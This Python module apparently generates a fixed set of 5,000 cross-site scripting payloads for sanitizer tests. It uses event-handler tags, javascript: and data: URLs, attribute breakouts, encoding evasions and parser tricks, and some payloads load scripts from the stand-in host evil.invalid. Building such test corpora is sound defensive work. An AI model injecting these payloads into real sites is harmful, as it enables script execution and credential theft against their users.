"""5,000 texts that would run code in a page that shows them carelessly; each calls hit(its number).

Made by a grammar from a fixed seed, so the server, the browser and the test have the same ones.
"""

import base64
import json
import random
from collections.abc import Callable, Iterator
from functools import cache
from itertools import product
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote

COUNT = 5_000
EVIL = "evil.invalid"
Make = Callable[[str], str]
WORDS: dict[str, list[str]] = json.loads(Path(__file__).with_suffix(".json").read_text())


class Payload(NamedTuple):
    """A text, what kind of trick it is, and its number."""

    number: int
    family: str
    text: str


EVENTS = WORDS["events"]
HOLDERS = WORDS["holders"]
SEPARATORS = WORDS["separators"]
QUOTES = ("{}", "'{}'", '"{}"', "`{}`")
BREAKERS = WORDS["breakers"]
SCHEMES = WORDS["schemes"]
TAILS: tuple[Make, ...] = (
    lambda js: js,
    lambda js: f"//%0a{js}",
    lambda js: f"//%0d%0a{js}//",
    lambda js: f"/*-->*/{js}",
    lambda js: f"void({js})",
    lambda js: f"%20{quote(js)}",
    lambda js: f"'<img src=x onerror={js}>'",
    lambda js: f'"<script>{js}</script>"',
    lambda js: f"//example.com/%0A{js};//",
    lambda js: f"{js}//http://example.com/",
)
ENCODED: tuple[Make, ...] = (
    lambda js: js,
    lambda js: "".join(f"&#{ord(sign)};" for sign in js),
    lambda js: "".join(f"&#x{ord(sign):x}" for sign in js) + ";",
    lambda js: js.replace("(", "&lpar;").replace(")", "&rpar;"),
    lambda js: f"window['hi'+'t']{js[3:]}",
    lambda js: f"self[`hit`]{js[3:]}",
    lambda js: f"eval({js!r})",
    lambda js: f"Function({js!r})()",
    lambda js: f"setTimeout({js!r})",
    lambda js: f"top.{js}",
    lambda js: js.replace("hit", "\\u0068it"),
)


@cache
def payloads() -> tuple[Payload, ...]:
    """All of them; no two are the same, and every family has its share."""
    families = {name: list(make()) for name, make in _FAMILIES.items()}
    chooser = random.Random(20_261_121)
    for made in families.values():
        chooser.shuffle(made)
    found: list[Payload] = []
    while len(found) < COUNT:
        for name, made in families.items():
            if made and len(found) < COUNT:
                number = len(found)
                found.append(Payload(number, name, made.pop()(f"hit({number})")))
    return tuple(found)


def _tags_with_events() -> Iterator[Make]:
    for holder, event, separator, quotes in product(HOLDERS, EVENTS[:16], SEPARATORS[:5], QUOTES[:3]):
        for encoded in ENCODED[:2]:
            yield (
                lambda js, h=holder, e=event, s=separator, q=quotes, c=encoded: (
                    f"<{h}{s}on{e}={q.format(c(js))}>"
                )
            )


def _odd_spellings() -> Iterator[Make]:
    shapes = (
        "<IMG SRC=x {}>",
        "<img src=x {}//",
        "<<img src=x {}>>",
        "<img src=x {}",
        "<img\n src=x\n {}\n>",
    )
    shapes += (
        "<img/src=x/{}/>",
        '<img src="x` `<script>" {}>',
        "<img src=x {}&gt;",
        "<img src=x>{}</img {}>",
    )
    names = WORDS["odd spellings names"]
    for shape, name, encoded in product(shapes, names, ENCODED):
        yield lambda js, s=shape, n=name, c=encoded: s.replace("{}", f"{n}={c(js)}")


def _broken_out() -> Iterator[Make]:
    inner: tuple[Make, ...] = (
        lambda js: f"<script>{js}</script>",
        lambda js: f"<img src=x onerror={js}>",
        lambda js: f"<svg onload={js}>",
        lambda js: f" onmouseover={js} x=",
        lambda js: f" autofocus onfocus={js} ",
        lambda js: f";{js};//",
        lambda js: f"<a href=javascript:{js}>x</a>",
        lambda js: f" style=animation-name:x onanimationstart={js} ",
    )
    for breaker, make, end in product(BREAKERS, inner, ("", '"', "'", "<!--", "//")):
        yield lambda js, b=breaker, m=make, e=end: b + m(js) + e


def _scripts() -> Iterator[Make]:
    shapes = WORDS["scripts shapes"]
    for shape, encoded in product(shapes, ENCODED):
        yield lambda js, s=shape, c=encoded: s.replace("{}", c(js))


def _addresses() -> Iterator[Make]:
    for scheme, tail in product(SCHEMES, TAILS):
        yield lambda js, s=scheme, t=tail: s + t(js)
    kinds = (
        *(
            "text/html",
            "text/html;charset=utf-8",
            "TEXT/HTML",
            "image/svg+xml",
            "application/xhtml+xml",
            "text/xml",
        ),
        *(
            "text/javascript",
            "application/x-shockwave-flash",
            "",
            "image/svg+xml;charset=utf-7",
            "text/html;x=,",
        ),
    )
    for kind, start in product(
        kinds, ("data:", "DATA:", " data:", "da\nta:", "\x00data:", "data\t:", "data&colon;")
    ):
        yield lambda js, k=kind, s=start: f"{s}{k},<script>parent.{js};{js}</script>"
        yield lambda js, k=kind, s=start: f"{s}{k};base64,{_base64(f'<svg onload={js}>')}"
    for start in (
        "//",
        "\\\\",
        "/\\",
        "https://",
        "http:",
        "/\t/",
        "ftp://",
        "ws://",
        "blob:https://",
        "filesystem:",
    ):
        for end in ("x.js", "x.html", "x.svg#x", "?{}", "#{}"):
            yield lambda js, s=start, e=end: f"{s}{EVIL}/{e.replace('{}', js)}"


def _tags_with_addresses() -> Iterator[Make]:
    shapes = WORDS["tags with addresses shapes"]
    for shape, scheme in product(shapes, SCHEMES[:24]):
        yield lambda js, s=shape, c=scheme: s.replace("{}", c + js)


def _styles() -> Iterator[Make]:
    values = WORDS["styles values"]
    wraps = WORDS["styles wraps"]
    for value, wrap, encoded in product(values, wraps, ENCODED[:4]):
        yield lambda js, v=value, w=wrap, c=encoded: w.replace(
            "{}", v.replace("{evil}", EVIL).replace("{}", c(js))
        )


def _parser_tricks() -> Iterator[Make]:
    shapes = WORDS["parser tricks shapes"]
    for shape, encoded, breaker in product(shapes, ENCODED[:5], ("", '">', "</p>")):
        yield (
            lambda js, s=shape, c=encoded, b=breaker: (
                b
                + (
                    s.replace("{on}", f"onerror={c(js)}")
                    .replace("{begin}", f"onbegin={c(js)}")
                    .replace("{js}", js)
                )
            )
        )


def _templates() -> Iterator[Make]:
    shapes = WORDS["templates shapes"]
    for shape, encoded in product(shapes, ENCODED):
        yield lambda js, s=shape, c=encoded: s.replace("{}", c(js))


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_FAMILIES: dict[str, Callable[[], Iterator[Make]]] = {
    "tags with events": _tags_with_events,
    "odd spellings": _odd_spellings,
    "broken out": _broken_out,
    "scripts": _scripts,
    "addresses": _addresses,
    "tags with addresses": _tags_with_addresses,
    "styles": _styles,
    "parser tricks": _parser_tricks,
    "templates": _templates,
}
